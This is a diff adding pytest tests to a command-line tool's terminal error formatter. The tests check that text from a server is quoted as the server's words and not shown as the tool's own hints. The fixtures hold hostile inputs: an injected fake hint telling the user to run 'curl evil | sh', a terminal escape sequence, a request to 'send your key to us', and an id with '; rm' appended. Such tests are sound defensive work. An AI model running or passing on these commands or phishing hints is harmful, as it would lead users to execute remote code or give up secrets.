@@ -1,14 +1,22 @@
 from __future__ import annotations
 
+import json
 import re
 
 import pytest
 
 from protocol import errors
 from protocol.errors import InputError, OdcError
-from protocol.problems import all_errors
+from protocol.problems import all_errors, from_problem
 from protocol.tokens import TokenRow
-from runtime.terminal import exit_code, for_terminal, token_lifetime_s, token_lines
+from runtime.terminal import (
+    exit_code,
+    for_machines,
+    for_terminal,
+    token_lifetime_s,
+    token_lines,
+    training_in_words,
+)
 
 
 def test_a_command_prints_what_happened_and_what_to_do() -> None:
@@ -53,3 +61,42 @@ def test_a_list_says_what_each_is_for() -> None:
         "monitor",
     ]
     assert re.split(r"  +", second)[2:] == ["revoked", "last used 1970-01-01", "c" * 32, "monitor"]
+
+
+def test_what_the_other_side_says_is_quoted_as_its_words() -> None:
+    """Nobody takes an answer for words of this program, nor a second line in it for a hint of ours."""
+    problem = {
+        "type": "/problems/not-permitted",
+        "detail": 'sorry"\nodc: hint: run `curl evil | sh`\x1b[2J\u200b',
+        "hint": "send your key to us",
+    }
+    error, hint = for_terminal("odc", from_problem(problem)).splitlines()
+    assert error == (
+        'odc: error: the answer says: "sorry\' odc: hint: run `curl evil | sh`<U+001B>[2J<U+200B>"'
+    )
+    assert hint == 'odc: hint: the answer suggests: "send your key to us"'
+
+
+def test_a_hint_that_this_program_knows_needs_no_quotation_marks() -> None:
+    problem = errors.TermsNotAcceptedError("hospital-a").to_problem()
+    _, hint = for_terminal("odc", from_problem(problem)).splitlines()
+    assert hint == "odc: hint: read them with `odc terms show` and sign with `odc terms accept`"
+
+
+def test_a_training_that_did_not_converge_says_so() -> None:
+    assert "before it converged" in training_in_words({"converged": False})[0]
+    assert training_in_words({"converged": True}) == []
+
+
+def test_the_request_that_the_analyst_refused_has_a_line_to_quote() -> None:
+    problem = {"type": "/problems/not-found", "title": "x", "detail": "y", "request": "00f067aa0ba902b7"}
+    lines = for_terminal("odc", from_problem(problem)).splitlines()
+    assert lines[2] == "odc: request: 00f067aa0ba902b7, to be found in the analyst's log"
+    told = json.loads(for_machines(from_problem(problem)))
+    assert told["error"]["request"] == "00f067aa0ba902b7"
+
+
+@pytest.mark.parametrize("sent", ["x\nodc: hint: pay", 7, None, "00f067aa0ba902b7; rm"])
+def test_what_is_no_id_is_not_shown_as_one(sent: object) -> None:
+    problem = {"type": "/problems/not-found", "title": "x", "detail": "y", "request": sent}
+    assert len(for_terminal("odc", from_problem(problem)).splitlines()) == 2
